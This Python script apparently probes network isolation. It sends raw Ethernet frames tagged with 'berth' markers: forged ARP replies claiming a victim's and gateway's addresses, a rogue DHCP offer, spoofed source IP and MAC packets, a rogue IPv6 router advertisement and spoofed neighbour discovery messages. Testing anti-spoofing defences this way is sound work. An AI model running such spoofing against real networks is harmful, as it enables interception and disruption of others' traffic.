"""Sends, for nine seconds: ARP and neighbour discovery for others' addresses, a DHCP offer, a foreign source and MAC, a router advertisement."""

import socket
import struct
import sys
import time

mac, victim_mac = (bytes.fromhex(address.replace(":", "")) for address in sys.argv[1:3])
own, victim, gateway = (socket.inet_aton(address) for address in sys.argv[3:6])
everybody = b"\xff" * 6


def ethernet(kind: int, payload: bytes, source: bytes = mac) -> bytes:
    return everybody + source + struct.pack("!H", kind) + payload


def ipv4(source: bytes, target: bytes, ports: tuple[int, int], text: bytes) -> bytes:
    datagram = struct.pack("!HHHH", *ports, 8 + len(text), 0) + text
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0, source, target)
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + head[12:] + datagram


def arp(claimed: bytes) -> bytes:
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, 2, mac, claimed, everybody, own) + b"berth-arp"


def link_local(hardware: bytes) -> bytes:
    return bytes.fromhex("fe80" + "00" * 6) + bytes([hardware[0] ^ 2]) + hardware[1:3] + b"\xff\xfe" + hardware[3:]


def icmpv6(source: bytes, message: bytes) -> bytes:
    words = source + all_nodes + struct.pack("!II", len(message), 58) + message
    total = sum(struct.unpack(f"!{len(words) // 2}H", words))
    total = (total & 0xFFFF) + (total >> 16)
    checksum = struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF)
    head = struct.pack("!IHBB", 6 << 28, len(message), 58, 255)
    return ethernet(0x86DD, head + source + all_nodes + message[:2] + checksum + message[4:])


def neighbour(kind: int, source: bytes, text: bytes) -> bytes:
    """Says of the victim's address that it is here; overrides what is known."""
    claim = struct.pack("!BBHI", kind, 0, 0, 0x20000000 if kind == 136 else 0) + link_local(victim_mac)
    options = b"" if source == nobody else bytes([2 if kind == 136 else 1, 1]) + mac
    return icmpv6(source, claim + options + bytes([253, 2]) + text + bytes(5))


nobody = bytes(16)
all_nodes = bytes.fromhex("ff02" + "00" * 13 + "01")
advertisement = bytes([134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0]) + b"berth-rad" + bytes(7)
frames = [
    ethernet(0x806, arp(victim)),
    ethernet(0x806, arp(gateway)),
    ethernet(0x800, ipv4(own, b"\xff" * 4, (67, 68), b"berth-dhc")),
    ethernet(0x800, ipv4(socket.inet_aton("10.9.9.9"), victim, (4000, 4001), b"berth-src")),
    ethernet(0x800, ipv4(own, victim, (4000, 4001), b"berth-mac"), bytes.fromhex("02aabbccddee")),
    icmpv6(bytes.fromhex("fe80" + "00" * 13 + "99"), advertisement),
    neighbour(136, link_local(mac), b"berth-adv"),
    neighbour(135, link_local(mac), b"berth-sol"),
    neighbour(135, link_local(victim_mac), b"berth-nei"),
    neighbour(135, nobody, b"berth-dad"),
]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
end = time.monotonic() + 9
while time.monotonic() < end:
    for frame in frames:
        wire.send(frame)
    time.sleep(0.2)
